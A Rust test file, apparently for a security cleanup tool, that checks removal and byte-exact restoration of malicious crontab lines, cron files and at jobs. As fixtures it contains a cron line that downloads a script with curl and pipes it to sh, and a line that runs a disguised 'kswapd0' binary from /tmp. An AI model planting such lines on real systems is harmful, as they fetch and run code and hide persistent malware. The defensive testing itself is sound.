//! One line of a crontab goes; every other byte stays, and all of it comes back.
use super::*;
use crate::act::points::interfere;

const KIND: ActionType = ActionType::RemoveScheduledTask;
const SPOOL: &str = "/var/spool/cron/crontabs/www-data";
const BAD: &str = "*/10 * * * * (curl -fsSL http://127.0.0.1:9/i.sh) | sh";

/// M72: also without a last line end, with the line ends of another system, with equal lines and bytes that are no text.
#[test]
fn only_the_named_line_goes_and_every_byte_comes_back() {
    let cases: [(&[u8], u32, &[u8]); 6] = [
        (b"# m h\n1 * * * * a\n@BAD\n2 * * * * b\n", 0, b"# m h\n1 * * * * a\n2 * * * * b\n"),
        (b"1 * * * * a\n@BAD", 0, b"1 * * * * a\n"),
        (b"@BAD\n1 * * * * a", 0, b"1 * * * * a"),
        (b"1 * * * * a\r\n@BAD\r\n# b\r\n", 0, b"1 * * * * a\r\n# b\r\n"),
        (b"@BAD\n1 * * * * \xff\xfe\n@BAD\n\n\n", 1, b"@BAD\n1 * * * * \xff\xfe\n\n\n"),
        (b"@BAD\n@BAD\n", 0, b"@BAD\n"),
    ];
    let filled = |text: &[u8]| {
        let mut out = Vec::new();
        for (n, piece) in text.split(|b| *b == b'@').enumerate() {
            out.extend_from_slice(if n == 0 { piece } else { BAD.as_bytes() });
            out.extend_from_slice(if n == 0 { b"" } else { piece.strip_prefix(b"BAD").unwrap() });
        }
        out
    };
    for (text, occurrence, expected) in cases {
        let rig = Rig::new();
        let hands = rig.hands();
        let real = rig.write(SPOOL, filled(text));
        dress(&real);
        fs::set_permissions(&real, fs::Permissions::from_mode(0o600)).unwrap();
        let before = snapshot(&real).unwrap();
        let target = line_target(SPOOL, BAD, occurrence);
        assert_eq!(hands.plan(KIND, &target).obstacles, []);
        let kept = done(&apply(&hands, KIND, &target));
        let after = snapshot(&real).unwrap();
        assert_eq!(fs::read(&real).unwrap(), filled(expected), "{}", String::from_utf8_lossy(text));
        assert_eq!(
            (after.facts.mode, after.facts.uid, after.facts.gid, &after.facts.xattrs),
            (before.facts.mode, before.facts.uid, before.facts.gid, &before.facts.xattrs)
        );
        assert_ne!(after.facts.modified, before.facts.modified, "cron sees that it changed");
        assert!(!hands.vault_items().unwrap()[0].quarantined, "a copy of what was, not a quarantined file");
        done(&undo(&hands, KIND, &target, &kept, Conflict::Stop));
        assert_eq!(snapshot(&real), Some(before));
        assert_eq!(rig.leftovers(), Vec::<PathBuf>::new());
    }
}

/// Spec 5.0: nothing that runs would be left.
#[test]
fn a_file_without_another_task_goes_whole_but_the_systems_own_stays() {
    let rig = Rig::new();
    let hands = rig.hands();
    let line = "*/5 * * * * root /tmp/.x/kswapd0 900";
    let text = format!("SHELL=/bin/sh\n{line}\n# end\n");
    for (path, stays) in [("/etc/cron.d/0sysstat", false), ("/etc/crontab", true)] {
        let real = rig.write(path, &text);
        dress(&real);
        let before = snapshot(&real);
        let target = line_target(path, line, 0);
        let kept = done(&apply(&hands, KIND, &target));
        assert_eq!(fs::read_to_string(&real).ok(), stays.then(|| "SHELL=/bin/sh\n# end\n".to_owned()));
        done(&undo(&hands, KIND, &target, &kept, Conflict::Stop));
        assert_eq!(snapshot(&real), before);
    }
}

/// M151
#[test]
fn a_line_that_is_not_there_any_more_is_gone_and_nothing_is_touched() {
    let rig = Rig::new();
    let hands = rig.hands();
    let real = rig.write(SPOOL, format!("1 * * * * a\n{BAD} \n"));
    gone(&apply(&hands, KIND, &line_target(SPOOL, BAD, 0)));
    assert_eq!(fs::read_to_string(&real).unwrap(), format!("1 * * * * a\n{BAD} \n"));
    fs::write(&real, format!("{BAD}\n")).unwrap();
    gone(&apply(&hands, KIND, &line_target(SPOOL, BAD, 1)));
    fs::remove_file(&real).unwrap();
    gone(&apply(&hands, KIND, &line_target(SPOOL, BAD, 0)));
    assert!(hands.vault_items().unwrap().is_empty());
}

#[test]
fn an_edit_that_comes_between_reading_and_swapping_is_not_lost() {
    for in_place in [true, false] {
        let rig = Rig::new();
        let hands = rig.hands();
        let real = rig.write(SPOOL, format!("1 * * * * a\n{BAD}\n"));
        let place = real.clone();
        let _interference = interfere(move |point| {
            if point == "armed" && in_place {
                fs::write(&place, "5 * * * * edited\n").unwrap();
            } else if point == "armed" {
                fs::write(place.with_extension("new"), "5 * * * * edited\n").unwrap();
                fs::rename(place.with_extension("new"), &place).unwrap();
            }
        });
        changed(&apply(&hands, KIND, &line_target(SPOOL, BAD, 0)));
        assert_eq!(fs::read_to_string(&real).unwrap(), "5 * * * * edited\n");
        assert_eq!(rig.leftovers(), Vec::<PathBuf>::new());
        assert!(hands.vault_items().unwrap().is_empty());
    }
}

/// Spec 5.4
#[test]
fn a_crontab_that_was_changed_since_is_only_replaced_by_choice() {
    let rig = Rig::new();
    let hands = rig.hands();
    let text = format!("1 * * * * a\n{BAD}\n");
    let real = rig.write(SPOOL, &text);
    let target = line_target(SPOOL, BAD, 0);
    let kept = done(&apply(&hands, KIND, &target));
    assert!(hands.plan_undo(&kept, &Conflict::Stop).obstacles.is_empty());
    fs::write(&real, "9 * * * * new\n").unwrap();
    assert_eq!(hands.plan_undo(&kept, &Conflict::Stop).obstacles[0].code, "place_taken");
    failed_with(&undo(&hands, KIND, &target, &kept, Conflict::Stop), "place_taken");
    assert_eq!(fs::read_to_string(&real).unwrap(), "9 * * * * new\n");
    done(&undo(&hands, KIND, &target, &kept, Conflict::KeepBoth));
    assert_eq!(fs::read_to_string(real.with_extension("restored")).unwrap(), text);
    let replaced = done(&undo(&hands, KIND, &target, &kept, Conflict::Replace));
    assert_eq!(fs::read_to_string(&real).unwrap(), text);
    let out = hands.restore_elsewhere(&replaced[0], rig.dir.path(), true).unwrap();
    assert_eq!(fs::read_to_string(out).unwrap(), "9 * * * * new\n");
    fs::remove_file(&real).unwrap();
    failed_with(&undo(&hands, KIND, &target, &kept, Conflict::Stop), "place_taken");
}

/// Whole files that are tasks, and jobs of `at`.
#[test]
fn a_script_of_cron_and_a_job_of_at_go_to_the_vault_by_their_digest() {
    let rig = Rig::new();
    let hands = rig.hands();
    for (kind, path) in [(TaskKind::Cron, "/etc/cron.daily/x"), (TaskKind::At, "/var/spool/cron/atjobs/a0000101c3b5a0")]
    {
        let real = rig.write(path, "#!/bin/sh\ntrue\n");
        dress(&real);
        let before = snapshot(&real);
        let target = task_file_target(kind, path, b"#!/bin/sh\ntrue\n");
        let kept = done(&apply(&hands, KIND, &target));
        assert!(!real.exists());
        done(&undo(&hands, KIND, &target, &kept, Conflict::Stop));
        assert_eq!(snapshot(&real), before);
        fs::write(&real, "#!/bin/sh\nfalse\n").unwrap();
        changed(&apply(&hands, KIND, &target));
    }
}
